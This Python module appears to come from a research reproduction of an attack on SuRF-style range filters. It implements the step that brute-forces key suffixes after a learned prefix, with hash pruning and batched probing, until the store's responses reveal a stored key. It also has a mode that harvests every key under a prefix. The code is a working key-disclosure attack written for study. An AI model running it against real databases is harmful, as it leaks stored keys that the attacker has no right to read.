"""Step 3: extending an identified prefix to a full stored key.

Enumerates every key of the target width that starts with the prefix,
probing each until the system answers UNAUTHORIZED (the key exists but the
attacker may not read it) or OK (the key exists and is world-readable) —
either way, a stored key is disclosed.

For SuRF-Hash, the false-positive key's (public) hash value prunes the
enumeration: any candidate whose hash bits differ from the FP's cannot be
the stored key, so it is skipped *without issuing a query* (paper section
6.2.2).  The hash of the fixed prefix is computed once and extended
incrementally per suffix, so pruning costs far less than querying.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.common.errors import AttackError
from repro.common.keys import suffix_space_size
from repro.core.oracle import ProbeOracle
from repro.filters.hashing import SUFFIX_HASH_SEED, fnv1a_64_init, fnv1a_64_update
from repro.system.responses import DISCLOSING


@dataclass(frozen=True)
class HashConstraint:
    """SuRF-Hash pruning data: required hash bits of the stored key."""

    num_bits: int
    value: int


@dataclass
class ExtensionResult:
    """Outcome of one prefix extension."""

    key: Optional[bytes]
    queries_spent: int
    candidates_considered: int
    exhausted: bool

    @property
    def found(self) -> bool:
        """Whether a stored key was disclosed."""
        return self.key is not None


def expected_extension_queries(prefix_len: int, key_width: int,
                               hash_bits: int = 0) -> int:
    """Worst-case probes to extend a prefix (the step-3 feasibility test).

    The suffix space divided by the SuRF-Hash pruning factor; the template
    discards prefixes whose cost exceeds its budget, the paper's "discard
    every prefix of length < 40 bits" rule generalized to query cost.
    """
    space = suffix_space_size(prefix_len, key_width)
    return max(1, space >> hash_bits)


def extend_prefix_variable(oracle: ProbeOracle, prefix: bytes,
                           max_suffix_len: int,
                           charset: bytes = bytes(range(256)),
                           max_queries: Optional[int] = None,
                           find_all: bool = False) -> "VariableExtensionResult":
    """Step 3 for variable-length keys (object names, row keys).

    Fixed-width extension enumerates one suffix space; variable-length
    targets have no single width, so this enumerates suffixes of length
    0..``max_suffix_len`` over ``charset``, shortest first (shorter names
    are likelier and cheaper).  Restricting the charset encodes format
    knowledge — the paper's section 8 observes the attacker can always
    fold distribution knowledge into the search.

    With ``find_all`` the enumeration continues past hits, harvesting
    every stored key under the prefix within the budget.
    """
    if max_suffix_len < 0:
        raise AttackError("max_suffix_len must be non-negative")
    if not charset:
        raise AttackError("charset must be non-empty")
    alphabet = sorted(set(charset))
    found: list = []
    queries = 0
    considered = 0
    probe = oracle.prober()

    def candidates():
        yield prefix
        for length in range(1, max_suffix_len + 1):
            for suffix in _suffixes(alphabet, length):
                yield prefix + suffix

    for candidate in candidates():
        considered += 1
        if max_queries is not None and queries >= max_queries:
            return VariableExtensionResult(found, queries, considered,
                                           exhausted=False)
        queries += 1
        status = probe(candidate)
        if status in DISCLOSING:
            found.append(candidate)
            if not find_all:
                return VariableExtensionResult(found, queries, considered,
                                               exhausted=False)
    return VariableExtensionResult(found, queries, considered, exhausted=True)


def _suffixes(alphabet, length):
    if length == 0:
        yield b""
        return
    for head in alphabet:
        for tail in _suffixes(alphabet, length - 1):
            yield bytes([head]) + tail


@dataclass
class VariableExtensionResult:
    """Outcome of a variable-length prefix extension."""

    keys: list
    queries_spent: int
    candidates_considered: int
    exhausted: bool

    @property
    def found(self) -> bool:
        """Whether at least one stored key was disclosed."""
        return bool(self.keys)


def extend_prefix(oracle: ProbeOracle, prefix: bytes, key_width: int,
                  hash_constraint: Optional[HashConstraint] = None,
                  max_queries: Optional[int] = None,
                  probe_many=None, chunk_size: int = 256) -> ExtensionResult:
    """Brute-force the suffix space of ``prefix`` (paper step 3).

    Stops at the first UNAUTHORIZED/OK response.  ``max_queries`` bounds
    the probes actually issued (pruned candidates are free).

    One scan enumerates the candidates, ``chunk_size`` at a time, and
    issues each chunk to one batch prober: ``keys -> [Status]`` of the
    keys it issued, in order.  By default that is ``oracle.probe_many``,
    which stops at the first disclosing status — so queries issued,
    responses and simulated time are exactly the one-at-a-time scan's.
    Remote attackers pass their own ``probe_many`` that issues whole
    chunks (a per-key wire round trip would dominate the suffix search);
    it discloses the *same key* as the serial scan (candidates are
    enumerated in the same order and statuses are pure functions of the
    key), at the cost of up to ``chunk_size - 1`` extra probes past the
    hit.
    """
    if len(prefix) > key_width:
        raise AttackError(
            f"prefix of {len(prefix)} bytes exceeds key width {key_width}"
        )
    if chunk_size < 1:
        raise AttackError(f"chunk size must be positive, got {chunk_size}")
    suffix_len = key_width - len(prefix)
    space = suffix_space_size(len(prefix), key_width)
    mask = None
    prefix_state = None
    target_bits = 0
    if hash_constraint is not None and hash_constraint.num_bits:
        mask = (1 << hash_constraint.num_bits) - 1
        prefix_state = fnv1a_64_update(fnv1a_64_init(SUFFIX_HASH_SEED), prefix)
        target_bits = hash_constraint.value

    queries = 0
    considered = 0
    issue_chunk = probe_many or oracle.probe_many

    def issue(chunk: list) -> Optional[bytes]:
        """Probe ``chunk``; the first stored key in it, if any."""
        nonlocal queries
        statuses = issue_chunk(chunk)
        queries += len(statuses)
        for candidate, status in zip(chunk, statuses):
            if status in DISCLOSING:
                return candidate
        return None

    # Every buffered candidate lies within the query budget by construction.
    chunk: list = []
    exhausted = True
    if mask is None:
        # Nothing is pruned: a chunk is the next slice of the suffix space,
        # cut short where the budget refuses a candidate (which, as in the
        # loop below, counts as considered).
        value = 0
        while value < space:
            stop = min(space, value + chunk_size)
            cut = False
            if max_queries is not None:
                room = max(0, max_queries - queries)
                if value + room < stop:
                    stop, cut = value + room, True
            chunk = [prefix + suffix.to_bytes(suffix_len, "big")
                     for suffix in range(value, stop)]
            considered += stop - value
            value = stop
            if cut:
                considered += 1
                exhausted = False
                break
            hit = issue(chunk)
            chunk = []
            if hit is not None:
                return ExtensionResult(hit, queries, considered,
                                       exhausted=False)
        hit = issue(chunk) if chunk else None
        return ExtensionResult(hit, queries, considered,
                               exhausted=exhausted and hit is None)
    for value in range(space):
        suffix = value.to_bytes(suffix_len, "big") if suffix_len else b""
        considered += 1
        if fnv1a_64_update(prefix_state, suffix) & mask != target_bits:
            continue  # pruned for free: hash bits cannot match
        if max_queries is not None and queries + len(chunk) >= max_queries:
            exhausted = False
            break
        chunk.append(prefix + suffix)
        if len(chunk) >= chunk_size:
            hit = issue(chunk)
            chunk = []
            if hit is not None:
                return ExtensionResult(hit, queries, considered,
                                       exhausted=False)
    hit = issue(chunk) if chunk else None
    return ExtensionResult(hit, queries, considered,
                           exhausted=exhausted and hit is None)
